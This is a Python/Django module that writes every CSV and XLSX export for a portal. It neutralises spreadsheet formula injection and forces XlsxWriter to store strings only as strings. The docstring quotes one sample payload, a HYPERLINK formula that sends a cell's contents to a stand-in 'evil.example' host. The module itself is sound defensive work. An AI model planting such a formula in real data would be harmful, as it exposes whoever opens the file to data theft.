"""The one writer of every CSV and XLSX file the portal makes: safe to open in a spreadsheet.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (OWASP "CSV injection"): a participant's legal name
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would run, with the sheet's other cells, on the
desk of whoever opens the export (CMS staff open every ACO's). So:

* in a CSV, such a text cell is written with a single quote in front (``'=HYPERLINK(...``), which
  spreadsheets show as text and people read as the value;
* in an XLSX, text is always a string cell (``write_string``) in a workbook that never turns
  strings into formulas or links, so no quote is needed.

Only text is neutralised. Numbers stay numbers: an ``int``, ``float`` or ``Decimal`` is written as
it is (``-12.5``), and so is a text that is exactly a number (``"-1234.50"``, an amount the caller
formatted to the cent): neither can run anything.

Every module that writes a CSV or XLSX uses this one (``csv_writer``, ``xlsx_workbook``,
``xlsx_write``); nothing else imports ``csv.writer`` or ``xlsxwriter`` for an export.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import TYPE_CHECKING, Any, Protocol

from django.http import HttpResponse
from django.utils.http import content_disposition_header

from lead_portal.formatting import when

if TYPE_CHECKING:
    from xlsxwriter.format import Format
    from xlsxwriter.workbook import Workbook
    from xlsxwriter.worksheet import Worksheet

# OWASP's list: what makes a spreadsheet read a cell as a formula (or, for tab and CR, what some
# of them skip before looking for one).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?")

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# A workbook never makes a formula, a link or a number of a string it is given.
XLSX_OPTIONS: dict[str, Any] = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}


def neutralise(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet runs: a single quote in front of a formula prefix."""
    if text.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_cell(value: object) -> object:
    """One value as a CSV cell: None empty, numbers and dates as they are, a time in the portal's zone
    with the zone named (``5 Dec 2026 14:03 EST``, never UTC), anything else as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        return when(value, seconds=True)
    if isinstance(value, bool | int | float | Decimal | dt.date):
        return value
    return neutralise(str(value))


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


class CSVWriter:
    """``csv.writer`` with every cell passed through ``csv_cell``. The first row is the header: a
    ``# …`` note above it makes Excel show the note as the first row and pandas take it for the
    header, so a first row that starts with ``#`` is refused (the vintage goes in the file's name)."""

    def __init__(self, stream: _Writable, **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)
        self._header_written = False

    def writerow(self, row: Iterable[object]) -> Any:
        cells = [csv_cell(v) for v in row]
        if not self._header_written:
            if cells and isinstance(cells[0], str) and cells[0].startswith("#"):
                raise ValueError("A CSV export starts with its header row: put notes in the file's name.")
            self._header_written = True
        return self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: _Writable, **fmtparams: Any) -> CSVWriter:
    """The writer for a CSV export (an ``HttpResponse``, a ``StringIO`` or an open file)."""
    return CSVWriter(stream, **fmtparams)


def xlsx_workbook(target: Any, options: dict[str, Any] | None = None) -> Workbook:
    """An XlsxWriter workbook (``in_memory`` unless told otherwise) that writes strings only as strings."""
    import xlsxwriter  # imported when a workbook is made: most requests never make one

    return xlsxwriter.Workbook(target, {"in_memory": True, **(options or {}), **XLSX_OPTIONS})


def xlsx_write(
    sheet: Worksheet,
    row: int,
    col: int,
    value: object,
    cell_format: Format | None = None,
    *,
    date_format: Format | None = None,
) -> None:
    """One cell by the value's type: nothing for None, a number, a boolean, a date (``date_format``,
    else ``cell_format``), a time as text in the portal's zone with the zone named (a spreadsheet's
    date cell carries no zone), or a string cell for anything else, never a formula."""
    if value is None:
        return
    if isinstance(value, bool):
        sheet.write_boolean(row, col, value, cell_format)
    elif isinstance(value, int | float | Decimal):
        sheet.write_number(row, col, float(value), cell_format)
    elif isinstance(value, dt.datetime):
        sheet.write_string(row, col, when(value, seconds=True), cell_format)
    elif isinstance(value, dt.date):
        sheet.write_datetime(row, col, dt.datetime.combine(value, dt.time()), date_format or cell_format)
    else:
        sheet.write_string(row, col, str(value), cell_format)


def xlsx_write_row(
    sheet: Worksheet,
    row: int,
    col: int,
    values: Iterable[object],
    cell_format: Format | None = None,
    *,
    date_format: Format | None = None,
) -> None:
    for offset, value in enumerate(values):
        xlsx_write(sheet, row, col + offset, value, cell_format, date_format=date_format)


@dataclass(frozen=True)
class Sheet:
    """One table of a download: its sheet name, header row and rows (``freeze``: keep the header and first
    column in view)."""

    title: str
    header: Sequence[object]
    rows: Iterable[Sequence[object]]
    freeze: bool = False


def table_download(fmt: str, filename: str, sheets: Sequence[Sheet]) -> HttpResponse:
    """A table download as an attachment: CSV (the first sheet alone, header first) or XLSX (every sheet,
    the header bold, dates as dates), both through this module's writers, so no cell is a formula."""
    if fmt == "csv":
        response = HttpResponse(content_type="text/csv; charset=utf-8")
        writer = csv_writer(response)
        writer.writerow(sheets[0].header)
        writer.writerows(sheets[0].rows)
    else:
        raw = io.BytesIO()
        book = xlsx_workbook(raw)
        bold = book.add_format({"bold": True})
        date_format = book.add_format({"num_format": "yyyy-mm-dd"})
        for sheet in sheets:
            page = book.add_worksheet(sheet.title)
            xlsx_write_row(page, 0, 0, sheet.header, bold)
            for n, values in enumerate(sheet.rows, start=1):
                xlsx_write_row(page, n, 0, values, date_format=date_format)
            if sheet.freeze:
                page.freeze_panes(1, 1)
        book.close()
        response = HttpResponse(raw.getvalue(), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response
